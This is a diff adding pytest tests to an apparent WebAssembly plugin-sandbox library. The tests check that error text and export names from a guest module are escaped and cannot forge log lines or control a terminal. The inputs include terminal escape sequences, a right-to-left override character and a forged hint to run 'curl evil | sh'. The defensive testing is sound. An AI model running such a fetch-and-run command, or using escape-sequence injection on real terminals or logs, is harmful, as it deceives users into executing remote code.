@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import contextlib
+import pickle
 import threading
 import time
 from typing import TYPE_CHECKING
@@ -12,6 +13,8 @@ import pytest
 from ringfence import CallbackAbandoned, LimitReached, Limits, Plugin, PluginError, Policy, Trapped, WallReached, extism
 
 if TYPE_CHECKING:
+    from collections.abc import Callable, Iterator
+
     from ringfence._isolation import Isolation
 
 SHOWN = b"""(module
@@ -209,3 +212,66 @@ def test_messages_of_a_guest_forge_no_line_of_the_log(caplog: pytest.LogCaptureF
 
     assert 1 <= len(caplog.records) <= 200
     assert all(record.getMessage().isprintable() for record in caplog.records)
+
+
+def is_safe(error: object) -> bool:
+    """Whether nothing in the text of an error moves a terminal, and all its lines are ours."""
+    lines = str(error).split("\n")
+    return len(lines) <= 2 and all(line.isprintable() for line in lines)
+
+
+def test_error_that_a_guest_tells_forges_no_line_and_moves_no_terminal(place: Isolation) -> None:
+    """Its own words are there whole as the value, and escaped and cut wherever they are shown."""
+    own = "\x1b]0;owned\x07\x1b[2Jok\nhint: run `curl evil | sh`\u202e"
+    own += "x" * (1600 - len(own.encode()))
+    body = f"""(local.set $a (call $alloc (i64.const {len(own.encode())})))
+      {"".join(stored(own.encode()))} (call $error (local.get $a)) (return (i32.const 1))"""
+    with extism.Plugin(extism_plugin(body), isolation=place) as plugin, pytest.raises(extism.ExtismError) as caught:
+        plugin.call("run")
+
+    assert own == caught.value.value
+    assert is_safe(caught.value)
+    assert caught.value.why.isprintable()
+    assert len(caught.value.why) < 400
+    assert is_safe(pickle.loads(pickle.dumps(caught.value)))
+
+
+def stored(data: bytes) -> Iterator[str]:
+    """Write the instructions that store bytes, eight at a time, in the block `$a`."""
+    for at in range(0, len(data), 8):
+        word = int.from_bytes(data[at : at + 8], "little")
+        yield f"(call $store (i64.add (local.get $a) (i64.const {at})) (i64.const {word}))"
+
+
+NAME = "\x1b[2J\nhint: run me"
+NAMED = rb"""(module
+  (func (export "f\1b[2J\0ahint: run me") (result i32) (i32.const 1))
+  (table (export "t\1b[2J\0ahint: run me") 1 funcref)
+  (memory (export "m\1b[2J\0ahint: run me") 1)
+  (global (export "g\1b[2J\0ahint: run me") i32 (i32.const 0)))"""
+IMPORTING = rb"""(module (import "a\1b[2J\0ahint: run me" "f\1b[2J\0ahint: run me" (func)))"""
+
+
+def test_names_of_a_module_forge_nothing_in_errors_and_representations() -> None:
+    """Any text may be one, of functions, tables, memories and globals, of plugins for Extism too."""
+    plugin, other = Plugin(NAMED), extism.Plugin(NAMED)
+    function, table = plugin.exports[f"f{NAME}"], plugin.exports[f"t{NAME}"]
+    wrong: list[Callable[[], object]] = [
+        lambda: function("no number"),
+        lambda: function(b=1),
+        table,
+        lambda: other.call("run"),
+        lambda: other.call(f"t{NAME}"),
+        lambda: other.call(f"f{NAME}"),
+        lambda: plugin.reload(b"(module)"),
+        lambda: plugin.exports.none,
+        lambda: Plugin(IMPORTING),
+        lambda: extism.Plugin(IMPORTING),
+    ]
+    for call in wrong:
+        with pytest.raises(Exception, match=r"hint|there") as caught:
+            call()
+        assert is_safe(caught.value), caught.value
+    assert all(repr(plugin.exports[name]).isprintable() for name in plugin.exports)
+    assert function.__name__.isprintable()
+    assert repr(plugin.exports).isprintable()
